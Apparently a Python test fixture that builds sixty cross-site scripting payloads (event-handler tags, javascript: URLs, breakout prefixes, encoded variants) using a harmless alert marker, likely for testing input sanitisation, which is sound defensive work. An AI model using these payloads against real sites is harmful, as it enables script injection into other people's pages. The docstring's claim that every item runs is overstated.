"""Sixty ways in which typed text tries to run; each would set `window.ran` or open a dialog."""

RUN = "window.ran=1,alert(1)"
_TAGS = (
    "img src=x onerror={}",
    "svg onload={}",
    "body onload={}",
    "input autofocus onfocus={}",
    "details open ontoggle={}",
    "video><source onerror={}",
    "audio src=x onerror={}",
    "iframe src=javascript:{}",
    "object data=javascript:{}",
    "embed src=javascript:{}",
    "a href=javascript:{} autofocus onfocus={}",
    "marquee onstart={}",
    "select autofocus onfocus={}",
    "textarea autofocus onfocus={}",
    "math href=javascript:{}",
    "form action=javascript:{}><input type=submit",
    "style onload={}",
    "link rel=stylesheet href=javascript:{}",
    "meta http-equiv=refresh content=0;url=javascript:{}",
    "base href=javascript:{}//",
)
_BREAKOUTS = ("", '">', "'>", "</textarea>", "</script>", "</title>", "-->", "]]>")
_PLAIN = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=data:,{RUN}></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus='",
    f"javascript:{RUN}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{% load static %}{{ request.user }}",
    f"${{{RUN}}}",
    f"`;{RUN};//",
    f"';{RUN};//",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"＜script＞{RUN}＜/script＞",
    f"<svg><script>{RUN}</script></svg>",
    f'<math><mi//xlink:href="data:x,<script>{RUN}</script>">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    f'<!--<img src="--><img src=x onerror={RUN}//">',
)
_TAGGED = tuple(
    f"{_BREAKOUTS[place % len(_BREAKOUTS)]}<{tag.replace('{}', RUN)}>"
    for place, tag in enumerate(_TAGS * 2)
)
PAYLOADS = (*_PLAIN, *dict.fromkeys(_TAGGED))[:60]
